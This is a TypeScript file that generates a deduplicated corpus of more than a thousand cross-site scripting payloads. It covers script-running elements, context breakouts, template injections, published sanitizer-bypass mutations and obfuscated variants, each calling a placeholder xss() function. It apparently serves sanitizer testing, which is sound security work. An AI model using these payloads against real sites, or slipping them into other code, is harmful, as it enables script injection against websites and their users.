/** What each payload calls when it runs. */
export const CALL = 'xss()'

/** Elements that run a script by themselves; `CALL` stands for the call. */
const ELEMENTS = [
  '<script>CALL</script>',
  '<script src=data:,CALL></script>',
  '<script type=module>CALL</script>',
  '<img src=x onerror=CALL>',
  '<img src onerror=CALL//',
  '<image src=x onerror=CALL>',
  '<svg onload=CALL>',
  '<svg><script>CALL</script></svg>',
  '<svg><script href=data:,CALL />',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><set onbegin=CALL attributeName=x>',
  '<svg><a xlink:href=javascript:CALL><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>CALL</script></svg>#x">',
  '<svg><foreignObject><body onload=CALL></foreignObject></svg>',
  '<math><mtext><img src=x onerror=CALL></mtext></math>',
  '<math href=javascript:CALL>x</math>',
  '<body onload=CALL>',
  '<body onpageshow=CALL>',
  '<iframe src=javascript:parent.CALL>',
  '<iframe srcdoc="<script>parent.CALL</script>">',
  '<iframe onload=CALL>',
  '<object data=javascript:CALL>',
  '<object data="data:text/html,<script>parent.CALL</script>">',
  '<embed src=javascript:CALL>',
  '<embed src="data:text/html,<script>parent.CALL</script>">',
  '<video src=x onerror=CALL></video>',
  '<video><source onerror=CALL></video>',
  '<audio src=x onerror=CALL></audio>',
  '<details open ontoggle=CALL>x</details>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL></select>',
  '<textarea autofocus onfocus=CALL></textarea>',
  '<button autofocus onfocus=CALL>x</button>',
  '<a href=# autofocus onfocus=CALL tabindex=1>x</a>',
  '<div style="animation:x 1s" onanimationstart=CALL>x</div>',
  '<div contenteditable autofocus onfocus=CALL>x</div>',
  '<marquee onstart=CALL>x</marquee>',
  '<style onload=CALL></style>',
  '<style>@import "data:text/css,x";</style><img src=x onerror=CALL>',
  '<link rel=stylesheet href=data:text/css, onload=CALL>',
  '<link rel=import href=data:text/html,CALL>',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<base href=javascript:/CALL/><a href=x>x</a>',
  '<form action=javascript:CALL><button autofocus>x</button></form>',
  '<form><button formaction=javascript:CALL>x</button></form>',
  '<a href=javascript:CALL>x</a>',
  '<a href="java\tscript:CALL">x</a>',
  '<a href="&#106;avascript:CALL">x</a>',
  '<a href="\u0001javascript:CALL">x</a>',
  '<a href=data:text/html,CALL>x</a>',
  '<a href="vbscript:CALL">x</a>',
  '<area href=javascript:CALL shape=default>',
  '<isindex type=image src=x onerror=CALL>',
  '<keygen autofocus onfocus=CALL>',
  '<x onclick=CALL autofocus tabindex=1 onfocus=CALL>x</x>',
  '<template><script>CALL</script></template>',
  '<slot onslotchange=CALL>x</slot>',
  '<dialog open onclose=CALL onfocus=CALL>x</dialog>',
]

/** What gets a payload out of where the page has put it. */
const WAYS_OUT = [
  ...[
    '',
    '">',
    "'>",
    '--></style></script>',
    '</title>',
    '</textarea>',
    '</noscript>',
    ']]>',
    '`>',
    '</option></select>',
  ],
  ...['</template>', '</svg>', '<!--><!-- -->', '<![CDATA[', '\\">', '&quot;>', '%22%3E', '"/>', '</a>'],
]

/** Without an element: out of a string, an attribute or a template. */
const TEXTS = [
  ...['";CALL;//', "';CALL;//", '`;CALL;//', '${CALL}', '{{CALL}}', "{{constructor.constructor('CALL')()}}", '#{CALL}'],
  ...['<%= CALL %>', '"-CALL-"', "'-CALL-'", '\\";CALL;//', '</script><script>CALL</script>', '\u2028CALL\u2028'],
  ...['javascript:CALL', 'JaVaScRiPt:CALL', ' javascript:CALL', 'data:text/html,<script>CALL</script>'],
  ...['" onerror=CALL x="', "' onfocus=CALL autofocus x='", '" autofocus onfocus=CALL "', '"]}</script><script>CALL//'],
]

/** Published ways past a sanitizer, which one parser reads as text and the next as an element. */
const MUTATIONS = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CALL&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<svg></p><style><a id="</style><img src=1 onerror=CALL>">',
  '<svg><p><style><g title="</style><img src=x onerror=CALL>">',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  '<p id="</noscript><img src=x onerror=CALL>">',
  '<xmp><p title="</xmp><img src=x onerror=CALL>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=CALL></style></annotation-xml></math>',
  '<svg><desc><noembed><p id="</noembed><img src=x onerror=CALL>"></noembed></desc></svg>',
  '<svg><title><style><img src="</style><img src=x onerror=CALL>"></title></svg>',
  '<select><iframe></select><img src=x onerror=CALL>',
  '<table><td><svg><desc></table><img src=x onerror=CALL>',
  '<a><svg><style>&lt;img src=x onerror=CALL&gt;</style></svg></a>',
  '<style><style/><img src=x onerror=CALL></style>',
  '<textarea><img title="</textarea><img src=x onerror=CALL>"></textarea>',
  '<listing>&lt;img src=x onerror=CALL&gt;</listing>',
  '<option><style></option></select><b><img src=x onerror=CALL></style></option>',
  '<math><mi//xlink:href="data:x,<script>CALL</script>">',
  '<img src="x` `<script>CALL</script>"` `>',
  '<div id="x"><svg><![CDATA[><img src=x onerror=CALL>]]></svg></div>',
  '<p class="ql-align-center" style="x:expression(CALL)" onmouseover=CALL>x</p>',
  '<iframe class="ql-video" src="javascript:CALL"></iframe>',
  '<a href="https://a.example" target="_blank" onclick="CALL" autofocus onfocus="CALL">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=" onload=CALL>',
]

const mixCase = (text: string) =>
  text.replace(/<\/?[a-z]+|\bon[a-z]+/g, (word) =>
    [...word].map((letter, n) => (n % 2 === 0 ? letter.toUpperCase() : letter)).join(''),
  )
const breakLines = (text: string) => text.replace(/ (on[a-z]+|href|src)=/g, '\n\f$1\t=\n')
const useSlashes = (text: string) => text.replace(/ (on[a-z]+|src|href|autofocus)/g, '/$1')

/** More than a thousand, each once. */
export function createPayloads(): string[] {
  const elements = WAYS_OUT.flatMap((out) => ELEMENTS.map((element) => out + element))
  const disguised = ELEMENTS.flatMap((element) => [mixCase(element), breakLines(element), useSlashes(element)])
  const all = [...MUTATIONS, ...TEXTS, ...disguised, ...elements]
  return [...new Set(all.map((payload) => payload.replaceAll('CALL', CALL)))]
}
